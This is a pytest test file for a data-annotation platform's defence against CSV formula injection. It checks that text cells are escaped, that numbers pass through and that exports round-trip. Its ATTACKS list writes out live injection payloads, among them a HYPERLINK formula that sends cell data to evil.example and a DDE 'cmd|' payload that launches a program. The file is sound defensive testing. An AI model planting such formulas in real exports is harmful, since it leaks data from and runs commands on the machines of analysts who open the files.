"""CSV formula injection: a cell starting like a formula (``=``, ``+``, ``-``, ``@`` …) runs when
an analyst opens a download in a spreadsheet, and cells carry text from workers and uploaded
files. One helper neutralises text cells in every CSV the platform writes; numbers stay
numbers; our importers undo the escape so exports round-trip."""
import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from annotation.content.formats import (
    ImageRef,
    VisitDataset,
    VisitRecord,
    parse_visit_csv,
    write_visit_csv,
)
from annotation.core.csv_safety import SafeDictWriter, SafeWriter, safe_cell, unescape_cell
from annotation.engine.services.batches import rows_from_upload
from annotation.pipeline.report import table2, table2_csv

ROOT = Path(__file__).resolve().parents[2]
ATTACKS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "'=1+1", "''@x", "-", "=", "- a list item"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_is_escaped_and_reads_back(text):
    cell = safe_cell(text)
    assert cell == "'" + text
    assert unescape_cell(cell) == text


@pytest.mark.parametrize("value", [0, -1, 2.5, -0.125, float("-inf"), "-0.25", "+3", "-1e-05",
                                   "-inf", "NaN", "", "plain", "a=b", "'quoted", "'-1", None])
def test_numbers_and_harmless_text_pass_through(value):
    assert safe_cell(value) == value
    assert unescape_cell(value) == value


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n 0123456789.eE,\"ax"), max_size=8))
def test_escape_is_reversible_both_ways(text):
    assert unescape_cell(safe_cell(text)) == text
    if text.startswith("'") and safe_cell(text[1:]) == text:  # a cell we could have written
        assert safe_cell(unescape_cell(text)) == text


def test_writers_escape_every_text_cell_and_the_header():
    out = io.StringIO()
    w = SafeDictWriter(out, fieldnames=["=name", "n"], lineterminator="\n")
    w.writeheader()
    w.writerows([{"=name": "@evil", "n": -3}, {"=name": "ok", "n": 1.5}])
    plain = io.StringIO()
    SafeWriter(plain, lineterminator="\n").writerows([["-x", -1, "-1"]])
    assert out.getvalue() == "'=name,n\n'@evil,-3\nok,1.5\n"
    assert plain.getvalue() == "'-x,-1,-1\n"


def test_no_module_writes_csv_around_the_helper():
    """Every csv.writer / DictWriter of the apps is the helper's; a new one would bypass it."""
    offenders = []
    for app in ("annotation", "judging", "agreement", "config"):
        for path in (ROOT / app).rglob("*.py"):
            if "migrations" in path.parts or path.name == "csv_safety.py":
                continue
            text = path.read_text(encoding="utf-8")
            if re.search(r"\bcsv\.(writer|DictWriter)\(", text):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


def test_table2_csv_keeps_its_numbers():
    table = table2({"single": {"verified": 3, "rejected": 1, "caption": 1},
                    "multi": {"verified": 63, "rejected": 37, "caption": 6, "response": 30}})
    rows = list(csv.reader(io.StringIO(table2_csv(table))))
    assert rows[1] == ["LLM reference correct (%)", "63.5", "75.0", "63.0"]
    assert rows[-1] == ["Instances rated", "104", "4", "100"]


def _record(instruction, answer):
    return VisitRecord(category="@cat", instruction=instruction,
                       images=[ImageRef("https://img.example/1.png", "-caption", None)],
                       reference_output="=label", candidate_reference=answer)


def test_visitbench_export_is_neutralised_and_round_trips():
    ds = VisitDataset("multi", [_record("=HYPERLINK(\"http://x\")", "- first\n- second"),
                                _record("'=already quoted", "+1 plus")])
    text = write_visit_csv(ds)
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK" in text and "'- first" in text and "''=already" in text
    assert parse_visit_csv(text) == ds
    assert write_visit_csv(parse_visit_csv(text)) == text  # a file we wrote: byte for byte


def test_uploaded_csv_rows_lose_the_export_escape_only():
    data = b"a,b,c\n'=x,'-1,''@y\n"
    assert rows_from_upload("r.csv", data) == [{"a": "=x", "b": "'-1", "c": "'@y"}]
